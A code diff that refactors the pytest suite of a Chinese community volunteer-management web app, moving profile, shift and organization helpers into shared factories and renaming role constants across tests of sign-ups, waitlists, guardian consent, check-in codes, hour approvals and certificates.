@@ -10,10 +10,8 @@ import pytest
 from itsdangerous import URLSafeTimedSerializer
 from sqlalchemy import func, select
 
-from blueprints.auth.models import User
 from blueprints.core.workflow import Refused
 from blueprints.notices.models import Notice
-from blueprints.places.models import Community
 from blueprints.util.times import utcnow
 from blueprints.volunteers import clock, codes, hours, profiles, rules, seats, signups
 from blueprints.volunteers.activities import new_code
@@ -26,69 +24,20 @@ from blueprints.volunteers.models import (
     VolunteerProfile,
 )
 from extensions import db
+from tests.factories import create_org, create_profile, create_shift
 from tests.keyset import refuses_forged_keys, walk
+from tests.people import (
+    ADMIN,
+    C02_GRID_WORKER,
+    GRID_WORKER,
+    ORG_OFFICER,
+    RESIDENT,
+    community,
+    person,
+)
 
-RESIDENT, WORKER, ADMIN = "13800000001", "13800000002", "13800000009"
-OFFICER = "13800000005"  # the demo's organization officer of C01: a second organizer
 # A real-format ID number with a valid GB 11643 check digit, born 1956-04-12.
 GOOD_ID = "110101195604120012"
-
-
-def person(phone):
-    return db.session.scalar(select(User).where(User.phone == phone))
-
-
-def community(code="C01"):
-    return db.session.scalar(select(Community).where(Community.code == code))
-
-
-def make_profile(phone, born=date(1960, 1, 1), proxy=False, name="志愿者", **values):
-    user = person(phone)
-    if user is None:
-        user = User(phone=phone, name=name)
-        user.set_password("x" * 10)
-        user.grid = person(RESIDENT).grid
-        db.session.add(user)
-        db.session.flush()
-    profile = VolunteerProfile(
-        user_id=user.id,
-        real_name=name,
-        birth_date=born,
-        community_id=community().id,
-        proxy_consent=proxy,
-        rules_accepted_at=utcnow(),
-        **values,
-    )
-    db.session.add(profile)
-    db.session.flush()
-    profile.number = f"VC01{profile.id:06d}"
-    db.session.commit()
-    return profile
-
-
-def make_shift(start=None, hours_long=3, capacity=2, cancel_hours=24, min_age=14, **values):
-    start = start or utcnow().replace(microsecond=0) + timedelta(days=3)
-    activity = Activity(
-        title=values.pop("title", "助老送餐"),
-        place="桃花社区食堂",
-        community_id=community().id,
-        contact_name="李网格",
-        contact_phone=WORKER,
-        signup_deadline=values.pop("deadline", start - timedelta(hours=1)),
-        cancel_hours=cancel_hours,
-    )
-    shift = Shift(
-        starts_at=start,
-        ends_at=start + timedelta(hours=hours_long),
-        capacity=capacity,
-        min_age=min_age,
-        code=new_code(),
-        **values,
-    )
-    activity.shifts.append(shift)
-    db.session.add(activity)
-    db.session.commit()
-    return shift
 
 
 def join(shift, profile, actor=None):
@@ -154,14 +103,14 @@ def test_a_minor_names_a_guardian_who_consents_by_a_signed_link(client, demo, lo
         "rules": "y",
     }
     assert client.post("/volunteers/profile", data=dict(form)).status_code == 422
-    guardian = {"guardian_phone": WORKER, "guardian_name": "李家长"}
+    guardian = {"guardian_phone": GRID_WORKER, "guardian_name": "李家长"}
     ok = client.post("/volunteers/profile", data={**form, **guardian})
     assert ok.status_code == 303
     # The link comes by text, to the phone typed (an account there is not looked up).
     [(to, text)] = sms
-    assert to == WORKER
+    assert to == GRID_WORKER
     link = "/volunteers/guardian/" + text.rsplit("/volunteers/guardian/", 1)[1]
-    shift = make_shift()
+    shift = create_shift()
     profile = db.session.scalar(select(VolunteerProfile))
     assert (profile.guardian_name, profile.guardian_user_id) == ("李家长", None)
     with pytest.raises(Refused, match="监护人同意"):
@@ -172,7 +121,7 @@ def test_a_minor_names_a_guardian_who_consents_by_a_signed_link(client, demo, lo
     db.session.expire_all()
     consented = db.session.get(VolunteerProfile, profile.id)
     assert consented.guardian_consent_at is not None
-    assert consented.guardian_user_id == person(WORKER).id  # proved by the link: now linked
+    assert consented.guardian_user_id == person(GRID_WORKER).id  # proved by the link: now linked
     assert join(shift, db.session.get(VolunteerProfile, profile.id)).state == "confirmed"
 
 
@@ -180,8 +129,8 @@ def test_a_minor_names_a_guardian_who_consents_by_a_signed_link(client, demo, lo
 
 
 def test_seats_then_a_waitlist_with_positions(demo, ctx):
-    shift = make_shift(capacity=2)
-    people = [make_profile(f"1390000000{i}", name=f"人{i}") for i in range(5)]
+    shift = create_shift(capacity=2)
+    people = [create_profile(f"1390000000{i}", name=f"人{i}") for i in range(5)]
     got = [join(shift, p) for p in people]
     assert [s.state for s in got] == ["confirmed"] * 2 + ["waitlisted"] * 3
     assert [seats.waitlist_position(s) for s in got] == [None, None, 1, 2, 3]
@@ -189,8 +138,8 @@ def test_seats_then_a_waitlist_with_positions(demo, ctx):
 
 
 def test_a_cancel_offers_the_seat_which_runs_out_and_moves_on(demo, ctx, sms):
-    shift = make_shift(capacity=1)
-    first, second, third = (make_profile(f"1390000001{i}", name=f"人{i}") for i in range(3))
+    shift = create_shift(capacity=1)
+    first, second, third = (create_profile(f"1390000001{i}", name=f"人{i}") for i in range(3))
     a, b, c = join(shift, first), join(shift, second), join(shift, third)
     signups.act(a, "cancel", first.user)
     db.session.expire_all()
@@ -200,7 +149,7 @@ def test_a_cancel_offers_the_seat_which_runs_out_and_moves_on(demo, ctx, sms):
     assert any(phone == second.user.phone and "/volunteers/c/" in text for phone, text in sms)
     assert db.session.get(Shift, shift.id).taken == 1  # held for the offer
     # A newcomer does not jump the queue while a seat is held.
-    assert join(shift, make_profile("13900000019", name="后来")).state == "waitlisted"
+    assert join(shift, create_profile("13900000019", name="后来")).state == "waitlisted"
     counts = clock.tick(utcnow() + timedelta(hours=13))
     assert counts["closed"] == 1
     db.session.expire_all()
@@ -213,8 +162,8 @@ def test_a_cancel_offers_the_seat_which_runs_out_and_moves_on(demo, ctx, sms):
 
 
 def test_an_offer_accepted_after_it_ran_out_is_refused_and_passed_on(demo, ctx):
-    shift = make_shift(capacity=1)
-    first, second, third = (make_profile(f"1390000002{i}", name=f"人{i}") for i in range(3))
+    shift = create_shift(capacity=1)
+    first, second, third = (create_profile(f"1390000002{i}", name=f"人{i}") for i in range(3))
     a, b, c = join(shift, first), join(shift, second), join(shift, third)
     signups.act(a, "cancel", first.user)
     b = db.session.get(Signup, b.id)
@@ -229,16 +178,16 @@ def test_an_offer_accepted_after_it_ran_out_is_refused_and_passed_on(demo, ctx):
 
 
 def test_an_offer_never_lasts_past_the_start(demo, ctx):
-    shift = make_shift(start=utcnow() + timedelta(hours=3), capacity=1, cancel_hours=1)
-    first, second = make_profile("13900000031"), make_profile("13900000032")
+    shift = create_shift(start=utcnow() + timedelta(hours=3), capacity=1, cancel_hours=1)
+    first, second = create_profile("13900000031"), create_profile("13900000032")
     a, b = join(shift, first), join(shift, second)
     signups.act(a, "cancel", first.user)
     assert db.session.get(Signup, b.id).deadline_at == shift.starts_at
 
 
 def test_declining_an_offer_frees_the_seat_for_the_next(demo, ctx):
-    shift = make_shift(capacity=1)
-    people = [make_profile(f"1390000004{i}") for i in range(3)]
+    shift = create_shift(capacity=1)
+    people = [create_profile(f"1390000004{i}") for i in range(3)]
     rows = [join(shift, p) for p in people]
     signups.act(rows[0], "cancel", people[0].user)
     signups.act(db.session.get(Signup, rows[1].id), "decline", people[1].user)
@@ -252,14 +201,16 @@ def test_declining_an_offer_frees_the_seat_for_the_next(demo, ctx):
 
 def test_bad_sign_ups_get_clear_messages_and_store_nothing(client, demo, login_as, ctx):
     login_as(RESIDENT)
-    profile = make_profile(RESIDENT, name="张桂兰")
-    shift = make_shift()
+    profile = create_profile(RESIDENT, name="张桂兰")
+    shift = create_shift()
     forged = client.post("/volunteers/shifts/999999/join", data={}, follow_redirects=True)
     assert "没有找到这个班次" in forged.get_data(as_text=True)
     assert client.post(f"/volunteers/shifts/{shift.id}/join", data={}).status_code == 303
     twice = client.post(f"/volunteers/shifts/{shift.id}/join", data={}, follow_redirects=True)
     assert "您已经报过这个班次了" in twice.get_data(as_text=True)
-    late = make_shift(deadline=utcnow() - timedelta(minutes=1), start=utcnow() + timedelta(days=9))
+    late = create_shift(
+        deadline=utcnow() - timedelta(minutes=1), start=utcnow() + timedelta(days=9)
+    )
     past = client.post(f"/volunteers/shifts/{late.id}/join", data={}, follow_redirects=True)
     assert "报名已经截止" in past.get_data(as_text=True)
     rows = db.session.scalars(select(Signup).where(Signup.profile_id == profile.id)).all()
@@ -268,8 +219,8 @@ def test_bad_sign_ups_get_clear_messages_and_store_nothing(client, demo, login_a
 
 def test_cancelling_after_the_cut_off_names_the_organizer(client, demo, login_as, ctx):
     login_as(RESIDENT)
-    profile = make_profile(RESIDENT, name="张桂兰")
-    shift = make_shift(start=utcnow() + timedelta(hours=10), cancel_hours=24)
+    profile = create_profile(RESIDENT, name="张桂兰")
+    shift = create_shift(start=utcnow() + timedelta(hours=10), cancel_hours=24)
     signup = join(shift, profile)
     answer = client.post(f"/volunteers/signups/{signup.id}/act/cancel", data={})
     assert answer.status_code == 422
@@ -287,39 +238,37 @@ def years_ago(n, days=10):
 
 
 def test_age_rules(demo, ctx):
-    shift = make_shift(min_age=6, capacity=5)
+    shift = create_shift(min_age=6, capacity=5)
     with pytest.raises(Refused, match="未满6岁"):
-        join(shift, make_profile("13900000051", born=years_ago(5)))
-    parent = make_profile("13900000052", name="家长")
-    child = make_profile(
-        "13900000053",
-        born=years_ago(10),
-        guardian_user_id=parent.user_id,
-        guardian_phone=parent.user.phone,
+        join(shift, create_profile("13900000051", born=years_ago(5)))
+    parent = create_profile("13900000052", name="家长")
+    child = create_profile(
+        "13900000053", born=years_ago(10), guardian="13900000052", consented=True
     )
+    assert child.guardian_user_id == parent.user_id
     with pytest.raises(Refused, match="监护人先报上同一个班次"):
         join(shift, child)
     join(shift, parent)
     assert join(shift, child).state == "confirmed"
-    teen = make_profile("13900000054", born=years_ago(16), guardian_phone="13900000052")
+    teen = create_profile("13900000054", born=years_ago(16), guardian="13900000052")
     with pytest.raises(Refused, match="监护人同意"):
         join(shift, teen)
     teen.guardian_consent_at = utcnow()
     db.session.commit()
     assert join(shift, teen).state == "confirmed"
-    adult_only = make_shift(min_age=18, start=utcnow() + timedelta(days=8))
+    adult_only = create_shift(min_age=18, start=utcnow() + timedelta(days=8))
     with pytest.raises(Refused, match="年满18岁"):
         join(adult_only, teen)
 
 
 def test_overlapping_shifts_are_refused_back_to_back_is_fine(demo, ctx):
     start = utcnow().replace(microsecond=0) + timedelta(days=4)
-    profile = make_profile("13900000061")
-    join(make_shift(start=start, hours_long=3, title="早班"), profile)
+    profile = create_profile("13900000061")
+    join(create_shift(start=start, hours_long=3, title="早班"), profile)
     with pytest.raises(Refused, match="早班"):
-        join(make_shift(start=start + timedelta(hours=2), title="中班"), profile)
+        join(create_shift(start=start + timedelta(hours=2), title="中班"), profile)
     assert (
-        join(make_shift(start=start + timedelta(hours=3), title="晚班"), profile).state
+        join(create_shift(start=start + timedelta(hours=3), title="晚班"), profile).state
         == "confirmed"
     )
 
@@ -343,14 +292,14 @@ def test_the_hour_arithmetic_at_its_edges():
 
 def checked_in_shift(capacity=2):
     start = utcnow().replace(microsecond=0) + timedelta(minutes=30)
-    shift = make_shift(start=start, capacity=capacity, cancel_hours=0, deadline=start)
+    shift = create_shift(start=start, capacity=capacity, cancel_hours=0, deadline=start)
     return shift
 
 
 def test_check_in_by_code_wrong_other_and_right(client, demo, login_as, ctx):
     login_as(RESIDENT)
-    profile = make_profile(RESIDENT, name="张桂兰")
-    shift, other = checked_in_shift(), make_shift()
+    profile = create_profile(RESIDENT, name="张桂兰")
+    shift, other = checked_in_shift(), create_shift()
     while other.code == shift.code:
         other.code = new_code()
     db.session.commit()
@@ -373,12 +322,12 @@ def test_check_in_by_code_wrong_other_and_right(client, demo, login_as, ctx):
 
 
 def test_check_in_opens_an_hour_before_and_the_code_expires(demo, ctx):
-    profile = make_profile("13900000071")
-    early = make_shift(start=utcnow() + timedelta(hours=3), cancel_hours=0)
+    profile = create_profile("13900000071")
+    early = create_shift(start=utcnow() + timedelta(hours=3), cancel_hours=0)
     signup = join(early, profile)
     with pytest.raises(Refused, match="签到时间"):
         codes.check_code(signup, early.code, "check_in")
-    late = make_shift(start=utcnow() + timedelta(days=2), cancel_hours=0)
+    late = create_shift(start=utcnow() + timedelta(days=2), cancel_hours=0)
     signup = join(late, profile)
     late.starts_at, late.ends_at = utcnow() - timedelta(hours=5), utcnow() - timedelta(hours=3)
     db.session.commit()
@@ -389,10 +338,10 @@ def test_check_in_opens_an_hour_before_and_the_code_expires(demo, ctx):
 def test_wrong_codes_count_per_shift_and_person(client, demo, login_as, ctx):
     """Ten wrong codes stop the person who typed them, on this shift only; a neighbour on the
     same network types the right code and is checked in."""
-    guesser, neighbour = make_profile(RESIDENT, name="张桂兰"), make_profile("13900000075")
+    guesser, neighbour = create_profile(RESIDENT, name="张桂兰"), create_profile("13900000075")
     shift, other = checked_in_shift(), checked_in_shift()
     mine, theirs = join(shift, guesser), join(shift, neighbour)
-    elsewhere = join(other, make_profile("13900000076"))
+    elsewhere = join(other, create_profile("13900000076"))
     url = f"/volunteers/shifts/{shift.id}/check-in"
     wrong = "000000" if shift.code != "000000" else "111111"
     login_as(RESIDENT)
@@ -413,7 +362,7 @@ def test_wrong_codes_count_per_shift_and_person(client, demo, login_as, ctx):
 
 
 def test_a_missing_check_out_is_closed_and_flagged_by_the_tick(demo, ctx):
-    profile = make_profile("13900000081")
+    profile = create_profile("13900000081")
     shift = checked_in_shift()
     signup = join(shift, profile)
     codes.check_code(signup, shift.code, "check_in")
@@ -432,10 +381,10 @@ def test_a_missing_check_out_is_closed_and_flagged_by_the_tick(demo, ctx):
 
 def test_roster_marks_present_absent_and_walk_in(client, demo, login_as, ctx):
     shift = checked_in_shift(capacity=1)
-    a, b = make_profile("13900000091", name="甲"), make_profile("13900000092", name="乙")
+    a, b = create_profile("13900000091", name="甲"), create_profile("13900000092", name="乙")
     first = join(shift, a)
-    walk = make_profile("13900000093", name="丙")
-    login_as(WORKER)
+    walk = create_profile("13900000093", name="丙")
+    login_as(GRID_WORKER)
     page = client.get(f"/volunteers/shifts/{shift.id}").get_data(as_text=True)
     assert shift.code in page
     assert "<svg" in page
@@ -460,10 +409,10 @@ def test_roster_marks_present_absent_and_walk_in(client, demo, login_as, ctx):
 
 
 def test_a_resident_cannot_open_the_roster(client, demo, login_as, ctx):
-    shift = make_shift()
+    shift = create_shift()
     login_as(RESIDENT)
     assert client.get(f"/volunteers/shifts/{shift.id}").status_code == 403
-    login_as("13800000013")  # a grid worker of the other community
+    login_as(C02_GRID_WORKER)  # a grid worker of the other community
     assert client.get(f"/volunteers/shifts/{shift.id}").status_code == 403
 
 
@@ -489,24 +438,24 @@ def record_for(profile, minutes=150, day=date(2026, 11, 20)):
 
 
 def test_hours_are_approved_declined_corrected_and_never_lost(client, demo, login_as, ctx):
-    profile = make_profile(RESIDENT, name="张桂兰")
+    profile = create_profile(RESIDENT, name="张桂兰")
     one, two = record_for(profile), record_for(profile, 60)
     login_as(RESIDENT)
     assert client.post(f"/volunteers/hours/{one.id}/act/approve", data={}).status_code == 422
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     assert (
         client.post(f"/volunteers/hours/{one.id}/act/approve", data={"hours": "4"}).status_code
         == 303
     )
-    login_as(OFFICER)  # more than the time recorded: a second organizer agrees
+    login_as(ORG_OFFICER)  # more than the time recorded: a second organizer agrees
     assert client.post(f"/volunteers/hours/{one.id}/act/agree", data={}).status_code == 303
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     no_reason = client.post(f"/volunteers/hours/{two.id}/act/decline", data={"reason": ""})
     assert no_reason.status_code == 422
     client.post(f"/volunteers/hours/{two.id}/act/decline", data={"reason": "没有签到"})
     login_as(RESIDENT)
     client.post(f"/volunteers/hours/{two.id}/act/ask_correction", data={"note": "我签了到"})
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     client.post(f"/volunteers/hours/{two.id}/act/answer", data={"note": "查过了，确实在"})
     client.post(f"/volunteers/hours/{two.id}/act/reopen", data={"reason": "更正"})
     db.session.expire_all()
@@ -524,8 +473,8 @@ def test_hours_are_approved_declined_corrected_and_never_lost(client, demo, logi
 
 def test_nobody_reviews_their_own_hours(client, demo, login_as, ctx):
     """The grid worker organizes the activity and also served in it: someone else reviews."""
-    record = record_for(make_profile(WORKER, name="李网格"))
-    login_as(WORKER)
+    record = record_for(create_profile(GRID_WORKER, name="李网格"))
+    login_as(GRID_WORKER)
     page = client.get(f"/volunteers/hours/{record.id}").get_data(as_text=True)
     assert 'id="act-approve"' not in page
     assert 'id="act-decline"' not in page
@@ -535,19 +484,19 @@ def test_nobody_reviews_their_own_hours(client, demo, login_as, ctx):
         assert refused.status_code == 422
         assert "不能审核自己的服务时长" in refused.get_data(as_text=True)
     assert db.session.get(HoursRecord, record.id).state == "pending"
-    hours.apply(record, "approve", person(OFFICER))
+    hours.apply(record, "approve", person(ORG_OFFICER))
     refused = client.post(url + "reopen", data={"reason": "再看看"})
     assert refused.status_code == 422
     db.session.expire_all()
     record = db.session.get(HoursRecord, record.id)
     assert record.state == "approved"
-    assert [(e.action, e.actor.phone) for e in record.events] == [("approve", OFFICER)]
+    assert [(e.action, e.actor.phone) for e in record.events] == [("approve", ORG_OFFICER)]
 
 
 def test_more_than_the_time_served_counts_once_a_second_organizer_agrees(
     client, demo, login_as, ctx
 ):
-    profile = make_profile(RESIDENT, name="张桂兰")
+    profile = create_profile(RESIDENT, name="张桂兰")
     shift = checked_in_shift()
     signup = join(shift, profile)
     codes.check_code(signup, shift.code, "check_in")
@@ -561,7 +510,7 @@ def test_more_than_the_time_served_counts_once_a_second_organizer_agrees(
     record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
     assert hours.most_minutes(record) == 180
     url = f"/volunteers/hours/{record.id}/act/"
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     over = client.post(url + "approve", data={"hours": "4.5"}, follow_redirects=True)
     assert "要第二位组织者同意才计入" in over.get_data(as_text=True)
     db.session.expire_all()
@@ -574,17 +523,17 @@ def test_more_than_the_time_served_counts_once_a_second_organizer_agrees(
     login_as(RESIDENT)
     assert client.post(url + "agree", data={}).status_code == 422
     assert hours.approved_minutes(profile) == 0
-    login_as(OFFICER)
+    login_as(ORG_OFFICER)
     assert client.post(url + "agree", data={}).status_code == 303
     db.session.expire_all()
     record = db.session.get(HoursRecord, record.id)
     assert (record.state, hours.approved_minutes(profile)) == ("approved", 270)
     steps = [(e.action, e.actor.phone, e.at is not None) for e in record.events[-2:]]
-    assert steps == [("approve", WORKER, True), ("agree", OFFICER, True)]
+    assert steps == [("approve", GRID_WORKER, True), ("agree", ORG_OFFICER, True)]
     page = client.get(f"/volunteers/hours/{record.id}").get_data(as_text=True)
     assert "同意这个时长" in page
     # Reopened, then approved by one organizer as recorded: the agreed extra does not stay.
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     client.post(url + "reopen", data={"reason": "核对"})
     assert client.post(url + "approve", data={"hours": "3"}).status_code == 303
     assert hours.approved_minutes(profile) == 180
@@ -595,7 +544,7 @@ def test_more_than_the_time_served_counts_once_a_second_organizer_agrees(
 
 
 def test_an_organizer_checking_themselves_out_late_gets_the_shifts_length(demo, ctx):
-    worker = make_profile(WORKER, name="李建国")
+    worker = create_profile(GRID_WORKER, name="李建国")
     shift = checked_in_shift()
     signup = join(shift, worker)
     codes.check_code(signup, shift.code, "check_in")
@@ -603,33 +552,33 @@ def test_an_organizer_checking_themselves_out_late_gets_the_shifts_length(demo, 
     signup.arrived_at = shift.starts_at - timedelta(hours=1)
     db.session.commit()
     # Out through the roster's button as the shift's organizer, five hours after its end.
-    signups.act(signup, "check_out", person(WORKER))
+    signups.act(signup, "check_out", person(GRID_WORKER))
     signup = db.session.get(Signup, signup.id)
     signup.left_at = shift.ends_at + timedelta(hours=5)
     db.session.commit()
     record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
     assert hours.most_minutes(record) == shift.minutes == 180
-    hours.apply(record, "approve", person(OFFICER), hours="9")
+    hours.apply(record, "approve", person(ORG_OFFICER), hours="9")
     assert db.session.get(HoursRecord, record.id).state == "awaiting_second"
     assert hours.approved_minutes(worker) == 0
 
 
 def test_a_roster_entry_is_approved_up_to_the_shifts_length(demo, ctx):
     shift = checked_in_shift()
-    walker = make_profile("13900000131")
-    codes.walk_in(shift, profiles.show_pass(walker).pass_code, person(WORKER))
+    walker = create_profile("13900000131")
+    codes.walk_in(shift, profiles.show_pass(walker).pass_code, person(GRID_WORKER))
     signup = db.session.scalar(select(Signup).where(Signup.profile_id == walker.id))
-    signups.apply(signup, "check_out", person(WORKER))
+    signups.apply(signup, "check_out", person(GRID_WORKER))
     record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
     assert hours.most_minutes(record) == shift.minutes == 180
-    hours.apply(record, "approve", person(WORKER), hours="3.5")
+    hours.apply(record, "approve", person(GRID_WORKER), hours="3.5")
     assert db.session.get(HoursRecord, record.id).state == "awaiting_second"
-    hours.apply(record, "decline", person(OFFICER), reason="只能按班次算")
+    hours.apply(record, "decline", person(ORG_OFFICER), reason="只能按班次算")
     assert hours.approved_minutes(walker) == 0
 
 
 def test_overdue_approvals_are_flagged_once(demo, ctx):
-    profile = make_profile("13900000101")
+    profile = create_profile("13900000101")
     record = record_for(profile)
     record.deadline_at = utcnow() - timedelta(hours=1)
     db.session.commit()
@@ -645,11 +594,11 @@ def test_stars_follow_the_national_levels():
 
 
 def test_a_certificate_verifies_publicly_masked_and_can_be_revoked(client, demo, login_as, ctx):
-    profile = make_profile(RESIDENT, name="张桂兰")
+    profile = create_profile(RESIDENT, name="张桂兰")
     with pytest.raises(Refused):
         hours.issue_certificate(profile)
     record = record_for(profile, 150)
-    hours.apply(record, "approve", person(WORKER))
+    hours.apply(record, "approve", person(GRID_WORKER))
     login_as(RESIDENT)
     issued = client.post("/volunteers/certificates", data={})
     number = issued.headers["Location"].rsplit("/", 1)[1]
@@ -674,15 +623,15 @@ def test_a_certificate_verifies_publicly_masked_and_can_be_revoked(client, demo,
 
 
 def test_the_csv_holds_approved_records_with_number_and_masked_id(client, demo, login_as, ctx):
-    profile = make_profile(RESIDENT, name="张桂兰", id_masked="11**************12")
-    shift = make_shift()
+    profile = create_profile(RESIDENT, name="张桂兰", born=date(1956, 4, 12), id_number=GOOD_ID)
+    shift = create_shift()
     record = record_for(profile)
     record.shift_id = shift.id
     pending = record_for(profile, 30)
     pending.shift_id = shift.id
     db.session.commit()
-    hours.apply(record, "approve", person(WORKER))
-    login_as(WORKER)
+    hours.apply(record, "approve", person(GRID_WORKER))
+    login_as(GRID_WORKER)
     text = client.get(f"/volunteers/shifts/{shift.id}/hours.csv").get_data(as_text=True)
     lines = text.lstrip("\ufeff").splitlines()
     assert lines[0].startswith("志愿者编号,姓名,身份证号,活动名称,服务日期")
@@ -692,7 +641,7 @@ def test_the_csv_holds_approved_records_with_number_and_masked_id(client, demo, 
     from blueprints.volunteers.models import RecordExport
 
     logged = db.session.scalar(select(RecordExport))
-    assert (logged.shift_id, logged.user_id, logged.rows) == (shift.id, person(WORKER).id, 1)
+    assert (logged.shift_id, logged.user_id, logged.rows) == (shift.id, person(GRID_WORKER).id, 1)
 
 
 # ---- proxies, confirm links, reminders ---------------------------------------------------------
@@ -701,10 +650,10 @@ def test_the_csv_holds_approved_records_with_number_and_masked_id(client, demo, 
 def test_a_grid_worker_signs_up_and_cancels_for_a_consenting_resident(
     client, demo, login_as, ctx, sms
 ):
-    resident = make_profile(RESIDENT, name="张桂兰", proxy=True)
-    refusing = make_profile("13900000111", name="不同意")
-    shift = make_shift()
-    login_as(WORKER)
+    resident = create_profile(RESIDENT, name="张桂兰", proxy=True)
+    refusing = create_profile("13900000111", name="不同意")
+    shift = create_shift()
+    login_as(GRID_WORKER)
     assert (
         client.post(
             f"/volunteers/shifts/{shift.id}/join", data={"for": str(refusing.id)}
@@ -715,7 +664,7 @@ def test_a_grid_worker_signs_up_and_cancels_for_a_consenting_resident(
     assert done.status_code == 303
     signup = db.session.scalar(select(Signup).where(Signup.profile_id == resident.id))
     assert signup.state == "confirmed"
-    assert signup.events[-1].actor_id == person(WORKER).id
+    assert signup.events[-1].actor_id == person(GRID_WORKER).id
     assert "代办" in signup.events[-1].detail_text
     link = f"http://127.0.0.1:5000/volunteers/signups/{signup.id}"
     assert (RESIDENT, f"【邻里】网格员为您办理了一项志愿活动的报名事宜。详情：{link}") in sms
@@ -726,7 +675,7 @@ def test_a_grid_worker_signs_up_and_cancels_for_a_consenting_resident(
         select(Notice.text).where(Notice.user_id == person(RESIDENT).id)
     ).all()
     assert "网格员为您取消了“%(title)s”的报名" in told
-    login_as("13800000013")  # a grid worker of another grid
+    login_as(C02_GRID_WORKER)  # a grid worker of another grid
     assert (
         client.post(
             f"/volunteers/shifts/{shift.id}/join", data={"for": str(resident.id)}
@@ -736,8 +685,8 @@ def test_a_grid_worker_signs_up_and_cancels_for_a_consenting_resident(
 
 
 def test_the_day_before_link_confirms_and_cancels_without_signing_in(client, demo, ctx, sms):
-    profile = make_profile(RESIDENT, name="张桂兰")
-    shift = make_shift(start=utcnow() + timedelta(hours=20), cancel_hours=12)
+    profile = create_profile(RESIDENT, name="张桂兰")
+    shift = create_shift(start=utcnow() + timedelta(hours=20), cancel_hours=12)
     signup = join(shift, profile)
     assert clock.tick()["day_before"] == 1
     assert clock.tick()["day_before"] == 0
@@ -763,8 +712,8 @@ def readable(token):
 def test_an_offer_link_accepts_signed_out_once_and_never_cancels_a_later_sign_up(
     client, demo, ctx, sms
 ):
-    shift = make_shift(capacity=1)
-    first, second = make_profile("13900000111"), make_profile("13900000112")
+    shift = create_shift(capacity=1)
+    first, second = create_profile("13900000111"), create_profile("13900000112")
     a, b = join(shift, first), join(shift, second)
     signups.act(a, "cancel", first.user)
     offer = next(re.search(r"(/volunteers/c/\S+)", t)[1] for p, t in sms if p == second.user.phone)
@@ -788,11 +737,9 @@ def test_an_offer_link_accepts_signed_out_once_and_never_cancels_a_later_sign_up
 
 
 def test_no_signed_link_carries_a_phone(demo, ctx):
-    minor = make_profile(
-        "13900000121", born=date(2012, 1, 1), guardian_phone=WORKER, guardian_name="李网格"
-    )
+    minor = create_profile("13900000121", born=date(2012, 1, 1), guardian=GRID_WORKER)
     token = profiles.make_token("guardian", minor.id, minor.guardian_phone)
-    assert WORKER not in readable(token)
+    assert GRID_WORKER not in readable(token)
     assert profiles.guardian_profile(token).id == minor.id
     minor.guardian_phone = "13900000122"
     db.session.commit()
@@ -801,20 +748,20 @@ def test_no_signed_link_carries_a_phone(demo, ctx):
 
 
 def test_after_the_cut_off_the_link_shows_the_organizer(client, demo, ctx):
-    profile = make_profile(RESIDENT, name="张桂兰")
-    shift = make_shift(start=utcnow() + timedelta(hours=20), cancel_hours=24)
+    profile = create_profile(RESIDENT, name="张桂兰")
+    shift = create_shift(start=utcnow() + timedelta(hours=20), cancel_hours=24)
     signup = join(shift, profile)
     link = "/volunteers/c/" + signups.confirm_token(signup)
     page = client.get(link).get_data(as_text=True)
     assert "取消报名" not in page
     assert "已过取消截止时间" in page
-    assert WORKER in page
+    assert GRID_WORKER in page
     assert client.post(link, data={"action": "cancel"}).status_code == 422
     assert db.session.get(Signup, signup.id).state == "confirmed"
 
 
 def test_a_calendar_file_per_shift(client, demo, ctx):
-    shift = make_shift()
+    shift = create_shift()
     body = client.get(f"/volunteers/shifts/{shift.id}/calendar.ics").get_data(as_text=True)
     assert "BEGIN:VEVENT" in body
     assert shift.starts_at.strftime("%Y%m%dT%H%M%SZ") in body
@@ -839,7 +786,7 @@ def test_posting_an_activity_checks_place_times_and_insurance(client, demo, logi
     }
     login_as(RESIDENT)
     assert client.get("/volunteers/activities/new").status_code == 403
-    login_as(WORKER)
+    login_as(GRID_WORKER)
     backwards = client.post("/volunteers/activities/new", data=dict(form))
     assert backwards.status_code == 422
     assert 'value="河边清理"' in backwards.get_data(as_text=True)
@@ -867,30 +814,14 @@ def test_posting_an_activity_checks_place_times_and_insurance(client, demo, logi
     assert "河边清理" not in client.get("/volunteers/?skill=medical").get_data(as_text=True)
 
 
-def approved_group(officer_phone, name, community_code="C01"):
-    """An approved organization as the filing's approval leaves it (blueprints/orgs/rules.py)."""
-    from blueprints.orgs.models import Org
-
-    org = Org(
-        number=f"S01-2026-{abs(hash(name)) % 10000:04d}",
-        community_id=community(community_code).id,
-        officer_id=person(officer_phone).id,
-        name=name,
-        kind="culture",
-        valid_until=utcnow() + timedelta(days=3 * 365),
-    )
-    db.session.add(org)
-    db.session.commit()
-    return org
-
-
 def test_an_approved_groups_officer_posts_in_its_name_and_its_page_lists_it(
     client, demo, login_as, create_user, ctx
 ):
     create_user("13900000051", name="合唱队长")  # an ordinary resident: no staff role at all
     create_user("13900000052", name="别的队长")
-    choir = approved_group("13900000051", "桃花社区夕阳红合唱队")
-    other = approved_group("13900000052", "柳塘社区太极队", "C02")
+    create_user("13900000066", roles=[("community_reviewer", community("C02"))])
+    choir = create_org(name="桃花社区夕阳红合唱队", officer="13900000051")
+    other = create_org(name="柳塘社区太极队", code="C02", officer="13900000052")
     start = (utcnow() + timedelta(days=4)).replace(microsecond=0) + timedelta(hours=8)
     form = {
         "title": "合唱进养老院",
@@ -933,11 +864,11 @@ def test_an_approved_groups_officer_posts_in_its_name_and_its_page_lists_it(
 
 
 def test_my_shifts_records_and_certificates_each_page_newest_first(client, demo, login_as, ctx):
-    profile = make_profile(RESIDENT, name="张桂兰")
+    profile = create_profile(RESIDENT, name="张桂兰")
     start = utcnow().replace(microsecond=0) + timedelta(days=3)
     for n in range(35):
         # Two shifts at each hour: the sign-up's id parts them.
-        shift = make_shift(start + timedelta(hours=n // 2 * 4), title=f"班次{n:02d}")
+        shift = create_shift(start + timedelta(hours=n // 2 * 4), title=f"班次{n:02d}")
         db.session.add(Signup(shift_id=shift.id, profile_id=profile.id, state="confirmed"))
         record_for(profile, day=date(2026, 11, 1) + timedelta(days=n // 3))
         db.session.add(
